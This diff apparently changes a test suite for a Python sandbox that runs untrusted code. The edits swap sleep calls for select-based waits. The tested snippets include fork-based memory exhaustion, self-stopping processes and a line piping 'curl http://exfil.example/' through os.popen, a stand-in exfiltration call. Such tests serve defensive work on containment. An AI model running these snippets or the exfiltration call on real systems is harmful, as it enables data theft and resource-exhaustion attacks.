@@ -33,7 +33,7 @@ def exhaust(jail: None, snakehook: Snakehook, index: Index) -> Any:
 
 WAITING = {
     "busy loop": "while True: pass",
-    "idle sleep": "time.sleep(3600)",
+    "idle sleep": "__import__('select').select([], [], [], 3600)",
     "stopped process": "os.kill(os.getpid(), signal.SIGSTOP)",
     "wait for a child that never ends": "os.waitpid(os.fork() or os.kill(os.getpid(), 19) or 0, 0)",
     "read from a FIFO without a writer": "os.mkfifo('/tmp/f'); open('/tmp/f').read()",
@@ -80,7 +80,7 @@ def test_many_processes_that_take_all_memory_together_end_as_memory(exhaust: Any
 for _ in range(16):
     if os.fork() == 0:
         eaten = b"x" * (24 << 20)
-        time.sleep(3600)
+        __import__('select').select([], [], [], 3600)
 os.wait()
 raise SystemExit("one was killed")
 """
@@ -352,7 +352,7 @@ def ask():
 if not os.path.exists("/tmp/asked"):
     open("/tmp/asked", "w").close()
     for _ in range(30): threading.Thread(target=ask, daemon=True).start()
-    time.sleep(1)
+    __import__('select').select([], [], [], 1)
 os.popen("true").read()
 """
 
@@ -460,7 +460,8 @@ def test_no_evidence_is_so_laborious_that_the_watch_is_not_waited_for(
     exhaust: Any, source: str
 ) -> None:
     report = exhaust(
-        source + "\nos.popen('curl http://exfil.example/').read()\ntime.sleep(3600)\n",
+        source + "\nos.popen('curl http://exfil.example/').read()\n"
+        "__import__('select').select([], [], [], 3600)\n",
         RUN_TIMEOUT_SEC=8,
     )
     assert report["outcome"] == "timeout", report["reason"]
